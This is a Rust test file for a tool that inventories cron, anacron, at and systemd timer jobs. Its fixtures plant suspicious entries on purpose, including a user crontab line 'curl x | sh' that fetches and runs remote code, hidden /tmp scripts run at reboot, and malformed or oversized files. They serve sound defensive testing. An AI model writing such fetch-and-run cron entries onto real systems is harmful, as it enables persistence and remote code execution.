//! Trees with jobs of every kind, and hostile ones.

use super::super::units::tests::Root;
use super::*;

fn rows(root: &Root) -> Vec<ScheduledTask> {
    list(&root.view, None, &TaskQuery::default(), &root.job).unwrap()
}

fn row(root: &Root, name: &str) -> ScheduledTask {
    let rows = rows(root);
    let names: Vec<_> = rows.iter().map(|r| r.name.raw().to_owned()).collect();
    rows.into_iter().find(|r| r.name.raw() == name).unwrap_or_else(|| panic!("no {name} in {names:?}"))
}

fn text(value: &Option<Untrusted>) -> &str {
    value.as_ref().unwrap().raw()
}

fn script(root: &Root, path: &str, mode: u32) {
    root.write(path, "#!/bin/sh\n");
    std::fs::set_permissions(root.path(path), std::os::unix::fs::PermissionsExt::from_mode(mode)).unwrap();
}

#[test]
fn crontabs_of_the_system_and_of_users() {
    let root = Root::new();
    root.write("/etc/passwd", "root:x:0:0::/root:/bin/sh\neve:x:1000:1000::/home/eve:/bin/sh\n");
    root.write("/etc/crontab", "SHELL=/bin/sh\nPATH=/usr/bin:/tmp\n17 * * * * root /bin/x\n");
    root.write("/etc/cron.d/plain", "@reboot eve /tmp/.x\n");
    root.write("/etc/cron.d/evil.sh", "* * * * * root /tmp/y\n");
    root.write("/var/spool/cron/crontabs/eve", "# DO NOT EDIT\nMAILTO=a@b\n*/5 * * * * curl x | sh\n");
    root.write("/var/spool/cron/crontabs/tmp.123", "* * * * * /tmp/z\n");
    let system = row(&root, "crontab:3");
    assert_eq!((text(&system.command), text(&system.user)), ("PATH=/usr/bin:/tmp /bin/x", "root"));
    assert!(system.next_run.unwrap() > Timestamp::now().plus_secs(-5));
    let reboot = row(&root, "cron.d/plain:1");
    assert_eq!((text(&reboot.schedule), reboot.next_run, reboot.enabled), ("@reboot", None, Some(true)));
    let dotted = row(&root, "cron.d/evil.sh:1");
    assert_eq!((dotted.enabled, dotted.next_run), (Some(false), None));
    let user = row(&root, "crontabs/eve:3");
    assert_eq!((text(&user.command), text(&user.user)), ("MAILTO=a@b curl x | sh", "eve"));
    assert_eq!(row(&root, "crontabs/tmp.123:1").enabled, Some(false));
}

#[test]
fn cronie_reads_names_with_dots() {
    let root = Root::new();
    root.write("/usr/sbin/crond", "");
    root.write("/etc/cron.d/a.b", "* * * * * root /x\n");
    root.write("/etc/cron.d/a.rpmsave", "* * * * * root /x\n");
    root.write("/var/spool/cron/root", "* * * * * /y\n");
    assert_eq!(row(&root, "cron.d/a.b:1").enabled, Some(true));
    assert_eq!(row(&root, "cron.d/a.rpmsave:1").enabled, Some(false));
    assert_eq!(text(&row(&root, "crontabs/root:1").user), "root");
}

#[test]
fn scripts_of_the_folders_by_the_rules_of_run_parts() {
    let root = Root::new();
    root.write("/etc/crontab", "25 6 * * * root test -x /usr/sbin/anacron || run-parts /etc/cron.daily\n");
    script(&root, "/etc/cron.daily/good", 0o755);
    script(&root, "/etc/cron.daily/bad.sh", 0o755);
    script(&root, "/etc/cron.daily/off", 0o644);
    root.link("/etc/cron.daily/gone", "/nowhere");
    let good = row(&root, "cron.daily/good");
    assert_eq!((good.enabled, text(&good.schedule)), (Some(true), "25 6 * * *"));
    assert!(good.next_run.is_some());
    for off in ["bad.sh", "off", "gone"] {
        assert_eq!(row(&root, &format!("cron.daily/{off}")).enabled, Some(false), "{off}");
    }
    root.write("/usr/sbin/anacron", "");
    assert_eq!(row(&root, "cron.daily/good").next_run, None);
}

#[test]
fn anacron_by_the_day_of_its_last_run() {
    let root = Root::new();
    root.write(
        "/etc/anacrontab",
        "SHELL=/bin/sh\n1 5 cron.daily run-parts /etc/cron.daily\n@monthly 45 m x\nbad line\n",
    );
    let today = jiff::tz::TimeZone::UTC.to_datetime(jiff::Timestamp::now()).date();
    root.write("/var/spool/anacron/cron.daily", today.strftime("%Y%m%d\n").to_string());
    let daily = row(&root, "anacron/cron.daily");
    let midnight = jiff::tz::TimeZone::UTC.to_timestamp(today.tomorrow().unwrap().at(0, 5, 0, 0)).unwrap();
    assert_eq!(daily.next_run.map(|t| t.as_secs()), Some(midnight.as_second()));
    assert_eq!((daily.kind, text(&daily.schedule)), ("anacron", "every 1 days, 5 minutes after"));
    assert_eq!(row(&root, "anacron/m").next_run, None);
}

#[test]
fn at_jobs_with_their_commands() {
    let root = Root::new();
    root.write("/etc/passwd", "eve:x:1000:1000::/home/eve:/bin/sh\n");
    let head = "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail eve 0\numask 22\ncd /home/eve || {\n\t exit 1\n}\n";
    root.write("/var/spool/cron/atjobs/a0000f01d68e5a", format!("{head}/tmp/.x\n"));
    root.write("/var/spool/cron/atjobs/.SEQ", "0000f\n");
    let at = row(&root, "at/15");
    assert_eq!((at.kind, text(&at.command), text(&at.user)), ("at", "/tmp/.x", "eve"));
    assert_eq!(at.next_run, Some(Timestamp::from_unix(0x01d6_8e5a * 60, 0)));
    assert_eq!(rows(&root).len(), 1);
}

#[test]
fn timers_of_the_system_and_of_users_with_what_they_start() {
    let root = Root::new();
    root.write("/etc/passwd", "eve:x:1000:1000::/home/eve:/bin/sh\n");
    root.write("/etc/systemd/system/evil.timer", "[Timer]\nOnCalendar=daily\nOnBootSec=5min\nUnit=other.service\n");
    root.write("/etc/systemd/system/other.service", "[Service]\nExecStart=/tmp/x\nUser=daemon\n");
    root.link("/etc/systemd/system/timers.target.wants/evil.timer", "../evil.timer");
    root.write("/usr/lib/systemd/system/off.timer", "[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n");
    root.write("/home/eve/.config/systemd/user/own.timer", "[Timer]\nOnUnitActiveSec=1h\n");
    root.write("/home/eve/.config/systemd/user/own.service", "[Service]\nExecStart=/tmp/y\n");
    let evil = row(&root, "evil.timer");
    assert_eq!((evil.kind, text(&evil.schedule)), ("timer", "OnCalendar=daily; OnBootSec=5min"));
    assert_eq!((text(&evil.command), text(&evil.user), evil.enabled), ("/tmp/x", "daemon", Some(true)));
    assert!(evil.next_run.is_some());
    let off = row(&root, "off.timer");
    assert_eq!((off.enabled, off.next_run), (Some(false), None));
    let own = row(&root, "own.timer");
    assert_eq!((text(&own.command), text(&own.user)), ("/tmp/y", "eve"));
}

#[test]
fn a_name_is_a_task_a_file_or_a_pattern() {
    let root = Root::new();
    root.write("/etc/cron.d/a", "* * * * * root /x\n* * * * * root /y\n");
    root.write("/etc/cron.d/b", "* * * * * root /z\n");
    let count = |name: &str| {
        let query = TaskQuery { name: Some(name.to_owned()) };
        list(&root.view, None, &query, &root.job).unwrap().len()
    };
    assert_eq!(
        [count("cron.d/a:1"), count("cron.d/a"), count("/etc/cron.d/a"), count("cron.d/*"), count("x")],
        [1, 2, 2, 3, 0]
    );
    let warned = root.job.take_warnings();
    assert_eq!(warned, [r#"no task has the name "x"; there are 3 other names"#]);
    let bad = list(&root.view, None, &TaskQuery { name: Some("[".into()) }, &root.job).unwrap_err();
    assert_eq!(bad.code, ErrorCode::BadArgs);
}

#[test]
fn a_time_that_never_comes_runs_nothing() {
    let root = Root::new();
    root.write("/etc/crontab", "0 0 31 2 * root /x\n0 0 29 2 * root /y\n25 6 30 2 * root run-parts /etc/cron.daily\n");
    script(&root, "/etc/cron.daily/a", 0o755);
    let of = |name: &str| {
        let row = row(&root, name);
        (row.enabled, row.next_run.is_some())
    };
    assert_eq!(of("crontab:1"), (Some(false), false));
    assert_eq!(of("crontab:2"), (Some(true), true));
    assert_eq!(of("cron.daily/a"), (Some(false), false));
}

#[test]
fn hostile_files_end_and_are_said() {
    let root = Root::new();
    rustix::fs::mkfifoat(rustix::fs::CWD, root.path("/etc/crontab"), rustix::fs::Mode::RUSR).unwrap();
    root.link("/etc/cron.d/loop", "loop");
    root.write("/var/spool/cron/crontabs/root", vec![b'*'; 64 << 20]);
    root.write("/etc/localtime", [0xff; 100]);
    root.write("/etc/anacrontab", [0u8; 4096]);
    assert_eq!(rows(&root), []);
    let warnings = root.job.take_warnings().join("\n");
    assert!(warnings.contains("/etc/crontab") && warnings.contains("crontabs/root"), "{warnings}");
}
